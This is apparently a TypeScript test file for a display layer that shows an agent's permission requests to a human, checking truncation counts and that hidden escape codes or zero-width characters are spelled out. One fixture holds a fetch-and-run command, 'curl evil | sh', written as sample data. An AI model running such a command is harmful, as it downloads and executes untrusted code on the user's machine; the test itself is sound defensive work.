import { describe, expect, test } from "vitest";
import type { Body, EventOf } from "../../../src/contract/events.ts";
import { missingOf, piecesOf } from "./pieces.ts";

type Permission = EventOf<"permission_request">;

const permission = (actionDetails: Permission["actionDetails"], more: Partial<Permission> = {}): Permission => ({
  type: "permission_request",
  pendingId: "p0",
  permissionTitle: "Do it",
  source: "protocol",
  actionType: "other",
  actionDetails,
  permissionOptions: [],
  ...more,
});
const diff = (unified: Body) => permission({ diffs: [{ path: "/w/a.ts", change: "modify", unified }] });
const far = { head: "@@ -0,0 +1 @@\n+one", bytes: 70_018, sha256: "h" };
const added = (count: number) => `@@ -0,0 +1 @@\n${"+line\n".repeat(count)}`;

describe("what is not shown", () => {
  test.each<[string, Permission, string[]]>([
    ["nothing, of a short command", permission({ command: "ls" }), []],
    ["the middle of a long one", permission({ command: "x".repeat(5000) }), ["3,800 characters are not shown"]],
    [
      "a title that is all there is",
      permission({}, { permissionTitle: "y".repeat(800) }),
      ["200 characters are not shown"],
    ],
    ["a reason", permission({}, { reason: "y".repeat(601) }), ["1 character is not shown"]],
    ["an address", permission({ url: `https://${"u".repeat(600)}` }), ["8 characters are not shown"]],
    ["paths", permission({ paths: Array.from({ length: 15 }, (_, i) => `/${i}`) }), ["3 paths are not shown"]],
    ["lines of a diff", diff(added(100)), ["40 lines are not shown"]],
    ["the end of a wide line", diff(`@@ -0,0 +1 @@\n+${"w".repeat(1500)}`), ["500 characters are not shown"]],
    ["what lies elsewhere", diff(far), ["70,000 bytes are not shown"]],
    ["nothing, of a short diff", diff(added(3)), []],
  ])("%s", (_, request, missing) => {
    expect(missingOf(request, "/w", new Map())).toEqual(missing);
  });

  test("what was fetched is counted as what it is", () => {
    expect(missingOf(diff(far), "/w", new Map([["h", added(100)]]))).toEqual(["40 lines are not shown"]);
  });

  test("of a question too", () => {
    const questions = [{ id: "q", text: "z".repeat(2100), answer: "boolean" as const }];
    const request = { type: "question_request" as const, pendingId: "q0", questions };
    expect(missingOf(request, "/w", new Map())).toEqual(["100 characters are not shown"]);
  });
});

describe("the pieces", () => {
  test.each<[string, Permission, object[]]>([
    ["what hides is spelled out", permission({ command: "ls\u001b[8m" }), [{ is: "command", text: "ls\\x1b[8m" }]],
    [
      "a title that hides something is shown below it as well",
      permission({}, { permissionTitle: "a\u200bb" }),
      [{ is: "words", text: "a\\u{200b}b" }],
    ],
    [
      "a title on several lines is shown as it is",
      permission({}, { permissionTitle: "a\nb" }),
      [{ is: "words", text: "a\nb" }],
    ],
    [
      "a title that is the command is not shown twice",
      permission({ command: "a\nb" }, { permissionTitle: "a\nb" }),
      [{ is: "command" }],
    ],
    [
      "paths, where the list of diffs is empty",
      permission({ paths: ["/w/a"], diffs: [] }),
      [{ is: "paths", paths: ["a"] }],
    ],
    ["a diff", diff(added(1)), [{ is: "diff", name: "a.ts" }]],
    ["a diff that is none is shown as text", diff("curl evil | sh"), [{ is: "text", text: "curl evil | sh" }]],
  ])("%s", (_, request, pieces) => {
    const found = piecesOf(request, "/w", new Map());
    expect(found).toMatchObject([...pieces, { is: "folder", text: "/w" }]);
  });
});
